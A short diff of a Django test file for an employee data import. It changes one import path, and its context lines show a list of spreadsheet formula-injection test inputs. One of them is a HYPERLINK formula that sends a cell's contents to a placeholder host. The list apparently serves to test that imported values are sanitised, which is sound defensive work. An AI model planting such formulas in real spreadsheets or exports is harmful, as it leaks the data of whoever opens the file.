@@ -13,7 +13,7 @@ from django.urls import reverse
 from formasi.transfer import services
 from formasi.workforce.models import Employee
 from tests.personas import World
-from tests.transfer.test_employees_import import KIND, ctx_for
+from tests.transfer.builders import KIND, ctx_for
 
 pytestmark = pytest.mark.django_db
 PAYLOADS = ['=HYPERLINK("http://x?leak="&A2,"Klik")', "+62 811", "-Siti", "@SUM(A1)", "=1+2"]
